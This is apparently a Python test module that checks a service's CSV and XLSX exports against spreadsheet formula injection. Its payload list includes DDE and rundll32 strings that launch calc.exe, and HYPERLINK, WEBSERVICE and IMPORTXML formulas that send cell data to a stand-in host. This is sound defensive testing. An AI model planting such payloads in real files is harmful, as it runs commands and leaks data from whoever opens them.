"""G7: what begins like a formula, in every text of every sheet, stays text; amounts stay numbers."""

import csv
import io
import re
from collections.abc import Iterator, Sequence
from contextlib import ExitStack
from decimal import Decimal
from unittest.mock import patch
from urllib.parse import quote

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from xlsxwriter.worksheet import Worksheet

from service.exchange import sheets
from tests.conftest import World
from tests.proof.at_hand import fresh_park, summary
from tests.proof.check import Check, Outcome, Trial
from tests.service.hostile import enter
from tests.service.matrix import everything_of
from tests.service.policy import PREFIX

SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝")
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    "SUM(A1:A9)",
    'HYPERLINK("//elsewhere.example?x="&A1,"click")',
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("//elsewhere.example/"&B2)',
    'IMPORTXML(CONCAT("//elsewhere.example/",A1),"//a")',
    "-2+3+cmd|' /C notepad'!A1",
    "+1\n=2+2",
    "'=1",
    "=1",
    "{=1}",
    "1,=2;=3\t=4",
    '"=5","=6"',
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "_x003D_1+1",
)
LISTS = ("plots", "findings", "tasks", "scores")
NUMBERS = {"Amount", "Quantity", "Unit price", "Score", "Points lost", "Fee of the plot", "Declared area (m²)"}
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def run(trial: Trial) -> Outcome:
    """Fill the park and read every sheet back; as a control, one that marks nothing and lets the library guess."""
    full = trial.full and not trial.control
    payloads = [f"{sign}{body}" for body in BODIES[: None if full else 2] for sign in SIGNS]
    with fresh_park(trial) as world, ExitStack() as broken:
        enter(world, payloads)
        if trial.control:
            broken.enter_context(patch.object(sheets, "BEGINS_A_FORMULA", ()))
            broken.enter_context(patch.object(Worksheet, "write_string", Worksheet.write))
        cells, wrong = 0, []
        client = world.client("auditor")
        for name, expected in _sheets(world, client, payloads):
            rows = _csv(client, name)
            cells += sum(map(len, rows))
            wrong += [f"{name}: {fault}" for fault in _faults(rows, _book(client, name), expected)]
    return Outcome(not wrong, summary(wrong, f"{len(payloads)} texts, {cells} cells in two formats"))


def _sheets(world: World, client: TestClient, payloads: Sequence[str]) -> Iterator[tuple[str, Sequence[str]]]:
    """Yield each sheet, and the texts that have to stand in it."""
    yield from ((name, payloads) for name in LISTS)
    for row in everything_of(client, f"{PREFIX}/statements"):
        yield f"statements/{quote(row['code'])}/lines", [payloads[int(row["contract"].split("-")[0][1:])]]


def _csv(client: TestClient, name: str) -> list[list[str]]:
    answer = client.get(f"{PREFIX}/{name}.csv")
    assert answer.status_code == 200, answer.text
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


def _book(client: TestClient, name: str) -> list[list[tuple[str, object]]]:
    """Return the kind and the value of each cell: s is text, n a number or nothing, d a day, f a formula."""
    page = load_workbook(io.BytesIO(client.get(f"{PREFIX}/{name}.xlsx").content)).worksheets[0]
    return [[(cell.data_type, cell.value) for cell in row] for row in page.iter_rows()]


def _faults(rows: list[list[str]], book: list[list[tuple[str, object]]], expected: Sequence[str]) -> Iterator[str]:
    """Yield the cells that run, numbers that are none, and texts that are not there as they were entered."""
    titles, shown = rows[0], {_lines(str(value)) for row in book for kind, value in row if kind == "s"}
    told = {_lines(cell) for row in rows for cell in row}
    if (len(rows), len(titles)) != (len(book), len(book[0])):
        yield "the two formats have other rows"
    for row, same in zip(rows, book, strict=False):
        for title, cell, (kind, value) in zip(titles, row, same, strict=True):
            if cell.startswith(SIGNS) and not NUMBER.fullmatch(cell):
                yield f"CSV {cell[:20]!r}"
            if kind == "f":
                yield f"a formula in XLSX: {value}"
            if title in NUMBERS and NUMBER.fullmatch(cell) and (kind != "n" or Decimal(repr(value)) != Decimal(cell)):
                yield f"{title} {cell} is {value!r}"
    for text in expected:
        if _lines(text) not in shown or _lines(f"'{text}") not in told:
            yield f"{text[:20]!r} is missing"


def _lines(text: str) -> str:
    """Take every sign for the end of a line as one, also the one that XLSX spells out."""
    return text.replace("_x000D_", "\r").replace("\r\n", "\n").replace("\r", "\n")


CHECK = Check(
    name="G7",
    claim="A text that begins like a formula stays text in every sheet; amounts are numbers, exact to the fen",
    target="0 formulas in XLSX, 0 unmarked texts in CSV, 0 amounts that differ",
    control="no mark in CSV, and a library that guesses what a text in XLSX is",
    run=run,
)
